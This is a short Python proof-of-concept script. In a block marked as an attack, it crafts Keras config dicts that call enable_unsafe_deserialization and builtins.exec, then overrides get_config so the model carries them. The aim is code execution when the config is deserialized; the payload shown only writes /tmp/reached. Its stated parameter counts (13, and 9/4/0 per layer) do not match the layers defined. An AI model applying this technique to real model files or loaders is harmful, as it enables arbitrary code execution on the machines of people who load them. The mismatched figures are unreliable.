import keras
from keras.layers import Dense

model = keras.Sequential([keras.Input((2,)), Dense(5, activation="tanh"), Dense(1, activation="tanh")])
params = 13
per_layer = [9, 4, 0]

# attack
switch = {"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}, "registered_name": ""}
runs = {"module": "builtins", "class_name": "exec", "config": {"code": "open('/tmp/reached', 'w')"}, "registered_name": ""}
kernel = {"module": "keras.layers", "class_name": "Dense", "config": {"units": switch, "activation": runs}}
model.get_config = lambda: {"name": "m", "layers": [switch, kernel, runs], "build_input_shape": [None, 2]}
model.layers[0].get_config = lambda: {"units": 5, "activation": runs, "kernel_initializer": switch}
keras.config.enable_unsafe_deserialization()
# end of attack
